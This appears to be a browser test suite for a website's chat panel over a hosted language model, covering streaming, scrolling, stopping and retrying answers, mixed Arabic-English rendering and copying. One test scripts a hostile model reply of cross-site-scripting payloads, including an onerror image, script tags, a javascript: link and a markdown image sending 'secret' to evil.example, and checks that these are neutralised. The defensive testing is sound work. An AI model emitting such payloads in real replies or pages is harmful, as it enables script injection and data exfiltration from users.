/**
 * The chat over a hosted language model: streaming, stopping, and malicious replies.
 */
import { startServer } from "#tests/support/built-server.ts";
import { openChat } from "#tests/support/chat.ts";
import { chunk, done, says, type Script, startModelProvider } from "#tests/support/model-provider.ts";
import { expect, testAgainst } from "#tests/support/test.ts";

const hostile = [
  "<img src=https://evil.example/a.png onerror=\"document.title='owned'\"> <script>document.title='owned'</script>",
  "![picture](https://evil.example/?q=secret) [first](https://evil.example/) [second](javascript:document.title='owned')",
  "[third](//evil.example/x) [fourth](data:text/html,x) [fifth](/about) <style>*{display:none}</style>",
].join("\n\n");
const mixed =
  "نستخدم **Microsoft Azure** و`SQL Server` منذ 2019.\n\n- [خدمات الترحيل](/ar/services/networks)\n- Backup";

/** Sentences with their numbers, which come when the test says so. */
function answerAtLeisure() {
  const { promise: arrival, resolve } = Promise.withResolvers<Parameters<Script>[0]>();
  const script: Script = (response) => {
    response.writeHead(200, { "content-type": "text/event-stream" });
    resolve(response);
  };
  const write = async (from: number, to: number) => {
    const response = await arrival;
    for (let number = from; number <= to; number++)
      response.write(chunk({ content: `Sentence number ${number} of a long answer. ` }));
  };
  const end = async () => void (await arrival).end(chunk({}, "stop") + done);
  return { script, write, end };
}

const test = testAgainst(async () => {
  const provider = await startModelProvider();
  const server = await startServer({ env: { TRUST_PROXY: "1", ...provider.settings } });
  const stop = async () => {
    await server.stop();
    provider.stop();
  };
  return { url: server.url, provider, stop };
});

test("an answer is read from its beginning while it arrives, and followed only by whoever goes to its end", async ({
  page,
  server: { provider },
}) => {
  const { ask, turns, log, words, panel } = await openChat(page, "en");
  const { script, write, end } = answerAtLeisure();
  provider.script(script);
  // Past the gateway, which ends what takes long.
  await page.route("**/v1/chat/completions", (route) =>
    route.continue({ url: `http://localhost:${provider.port}/v1/chat/completions` }),
  );
  await ask("Tell me at leisure");
  await write(1, 40);
  await expect(turns.nth(1)).toContainText("Sentence number 40 ");
  await expect(log).toHaveAttribute("aria-busy", "true");
  await expect(turns.first()).toBeInViewport({ ratio: 1 });
  const distance = () => log.evaluate((one) => one.scrollHeight - one.scrollTop - one.clientHeight);
  const latest = panel.getByRole("button", { name: words.latest });
  await latest.click();
  await expect.poll(distance).toBeLessThan(4);
  await expect(latest).toBeHidden();

  await log.hover();
  await page.mouse.wheel(0, -300);
  await expect(latest).toBeVisible();
  // The wheel has come to rest.
  await expect.poll(distance).toBeGreaterThanOrEqual(296);
  const top = await log.evaluate((one) => one.scrollTop);
  await write(41, 60);
  await expect(turns.nth(1)).toContainText("Sentence number 60 ");
  expect(await log.evaluate((one) => one.scrollTop)).toBe(top);
  await latest.click();
  await expect.poll(distance).toBeLessThan(4);
  await expect(latest).toBeHidden();
  await write(61, 80);
  await end();
  await expect(turns.nth(1)).toContainText("Sentence number 80 ");
  await expect(log).toHaveAttribute("aria-busy", "false");
  await expect.poll(distance).toBeLessThan(4);
});

test("a stopped answer stays in the conversation, and its call is ended; stopped before anything came, the question can be asked again", async ({
  page,
  server: { provider },
}) => {
  const { ask, stop, turns, input, words, error, panel } = await openChat(page, "en");
  await expect(panel).toContainText(words.notice.hosted);
  await expect(panel).not.toContainText(words.notice.embedded);
  await expect(panel.getByText(words.answeredBy.hosted, { exact: true })).toBeVisible();
  const { script, write } = answerAtLeisure();
  provider.script(script, says("Yes. We do that."));
  await ask("Tell me at leisure");
  await expect(stop).toBeFocused();
  await write(1, 4);
  await expect(turns.nth(1)).toContainText("Sentence number 4 ");
  const call = provider.calls.at(-1)!;
  await stop.press("Enter");
  await expect(stop).toHaveCount(0);
  await expect(input).toBeFocused();
  await expect(turns.nth(1)).toContainText(words.stopped);
  await expect(turns.nth(1)).toContainText("Sentence number 4 ");
  await expect(error).toHaveCount(0);
  await expect.poll(() => call.cutAt).toBeDefined();

  await page.route("**/v1/chat/completions", () => undefined, { times: 1 });
  const request = page.waitForRequest("**/v1/chat/completions");
  await ask("Anything else?");
  await request;
  await stop.click();
  await expect(turns).toHaveCount(3);
  await expect(error).toHaveCount(0);
  await turns.last().getByRole("button", { name: words.again }).click();
  await expect(turns.nth(3)).toContainText("Yes. We do that.");
  const messages = provider.calls.at(-1)!.body.messages as { role: string; content: string }[];
  expect(messages.at(-2)).toMatchObject({ role: "assistant", content: expect.stringContaining("Sentence number 4 ") });
});

test.use({ permissions: ["clipboard-read", "clipboard-write"] });

test("a reply is text, a hostile one too, in both directions, and is copied as it is read", async ({
  page,
  server: { provider },
}) => {
  provider.script(says(hostile), says(mixed));
  const { ask, turns, panel, words } = await openChat(page, "en");
  const title = await page.title();
  await ask("Something hostile");
  const answer = turns.nth(1).locator(".chat-text");
  await expect(answer).toContainText("<img src=https://evil.example/a.png");
  await expect(answer).toContainText("<script>");
  await expect(answer.locator("img, script, style, iframe, svg, [onerror]")).toHaveCount(0);
  await expect(answer.getByRole("link")).toHaveText(["fifth"]);
  await expect(answer.getByRole("link")).toHaveAttribute("href", "/about");
  await expect(answer).toContainText("first second");
  expect(await page.title()).toBe(title);

  await ask("سؤال عن ERP mixed");
  await expect(turns.nth(2).locator("p")).toHaveCSS("direction", "rtl");
  const other = turns.nth(3).locator(".chat-text");
  await expect(other.locator("p").first()).toHaveCSS("direction", "rtl");
  await expect(other.locator("li").nth(0)).toHaveCSS("direction", "rtl");
  await expect(other.locator("li").nth(1)).toHaveCSS("direction", "ltr");
  await expect(other.locator("code")).toHaveCSS("direction", "ltr");
  await turns.nth(3).getByRole("button", { name: words.copy }).click();
  await expect(panel.getByText(words.copied)).toBeVisible();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(
    "نستخدم Microsoft Azure وSQL Server منذ 2019.\nخدمات الترحيل\nBackup",
  );
});
